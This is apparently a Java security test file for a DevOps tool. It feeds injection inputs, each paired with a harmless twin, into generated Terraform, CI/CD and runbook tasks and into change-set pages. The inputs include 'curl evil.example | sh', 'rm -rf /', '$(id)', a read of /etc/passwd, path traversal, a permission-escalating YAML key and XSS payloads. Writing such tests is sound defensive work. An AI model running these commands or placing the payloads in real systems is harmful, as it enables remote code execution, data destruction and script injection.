package dev.devopspack.attack;

import dev.devopspack.attack.Attack.Answer;
import dev.devopspack.testing.PersonAtBrowser;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/// Text that wants to be code where it is written: in generated files and on pages.
final class InjectionAttacks {

    private static final String FAMILY = "injection";

    private final Site site;
    private final PersonAtBrowser reader;
    private final List<Attack> attacks = new ArrayList<>();

    InjectionAttacks(Site site, PersonAtBrowser reader) {
        this.site = site;
        this.reader = reader;
    }

    List<Attack> all() {
        input(
                "an interpolation in a cluster's name",
                "task: {type: devops.terraform, input: {provider: aws, environment: dev, resources: [{type: eks_cluster, node_count: 1, name: %s}]}}",
                "'${file(\"/etc/passwd\")}'",
                "blue");
        input(
                "a quote in a cluster's name",
                "task: {type: devops.terraform, input: {provider: aws, environment: dev, resources: [{type: eks_cluster, node_count: 1, name: %s}]}}",
                "'a\" }\nresource \"null_resource\" \"x\" {'",
                "blue");
        String pipeline = "task: {type: devops.cicd, input: {project_type: go, %s}}";
        input(
                "an expression in a branch",
                pipeline,
                "default_branch: '${{ github.event.issue.title }}'",
                "default_branch: trunk");
        input(
                "a command in a branch",
                pipeline,
                "default_branch: 'main; curl evil.example | sh'",
                "default_branch: main");
        input(
                "a key in an environment's name",
                pipeline,
                "environments: [\"a\\n  permissions: write-all\"]",
                "environments: [staging]");
        input(
                "a command in an environment's name",
                pipeline,
                "environments: ['$(id)']",
                "environments: [dev]");
        input(
                "a second command in a project's task",
                pipeline.replace("project_type: go", "project_type: typescript_fullstack"),
                "tasks: {test: 'unit; curl evil.example'}",
                "tasks: {test: unit}");
        input(
                "a folder above the project",
                "task: {type: devops.cicd, input: {project_type: typescript_fullstack, layout: packages, components: [%s]}}",
                "'../../etc'",
                "web");
        String runbook =
                "task: {type: devops.incident_runbook, input: {incident_type: disk_full, services: [%s]}}";
        input("a command in a service's name", runbook, "'api; rm -rf /'", "api");
        input("a code block in a service's name", runbook, "\"a\\n```bash\\nreboot\"", "api");
        input("bidirectional text in a service's name", runbook, "\"a\\u202Eb\"", "ab");
        page("a script", "<script>alert(1)</script>", "<script>alert(1)");
        page("an attribute that ends", "\" onmouseover=\"alert(1)", "\" onmouseover=\"");
        page("a template", "{config:'quarkus.application.name'} and more", "devops-pack and more");
        page("text that is read backwards", "approved\u202Edeined", "\u202E");
        page("characters that nobody sees", "safe\u200B\u2060\uDB40\uDC41", "\u200B");
        page(
                "an address of another site",
                "[sign here](javascript:alert(1))",
                "href=\"javascript:");
        return attacks;
    }

    private void input(String name, String task, String tried, String twin) {
        attacks.add(
                new Attack(
                        FAMILY,
                        name,
                        () -> site.task(task.formatted(tried)),
                        () -> site.task(task.formatted(twin))));
    }

    /// A claim is anybody's text, shown to whoever decides.
    ///
    /// @param forbidden what must not stand in the page as it is
    private void page(String name, String claim, String forbidden) {
        attacks.add(
                new Attack(
                        FAMILY,
                        name + " on the page",
                        () -> {
                            String page = page(claim);
                            return Answer.of(!page.contains(forbidden), page);
                        },
                        () -> {
                            String page = page("harmless words");
                            return Answer.of(!page.contains("harmless words"), page);
                        }));
    }

    private String page(String claim) throws Exception {
        JsonObject submission =
                Site.submission(Map.of("notes.md", "about " + claim.hashCode()))
                        .put("claims", new JsonArray().add(claim));
        String body =
                site.post(
                                "/api/v1/change-sets",
                                "application/json",
                                submission.encode(),
                                site.token())
                        .body();
        JsonObject changeSet = new JsonObject(body).getJsonObject("changeSet");
        return reader.page("/change-sets/" + changeSet.getString("id"));
    }
}
